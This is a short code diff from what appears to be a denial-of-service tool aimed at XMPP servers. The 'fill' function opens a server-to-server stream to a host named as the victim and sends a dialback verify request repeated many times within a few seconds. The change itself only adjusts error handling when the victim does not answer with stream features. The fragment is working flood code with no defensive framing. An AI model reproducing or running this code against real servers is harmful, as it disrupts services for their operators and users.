@@ -60,7 +60,8 @@ def fill(ground: Ground, asks: int) -> Stream:
     stream = Stream(sock)
     stream.send_header(from_=ground.domain, to=ground.victim)
     stream.read_header()
-    stream.expect("stream:features")
+    if not stream.read().is_a("stream:features"):
+        raise Closed  # one of too many for the hub
     question = f"<db:verify from='{ground.domain}' to='{ground.victim}' id='1'>k</db:verify>"
     stream.send(question * asks, within=3)
     return stream
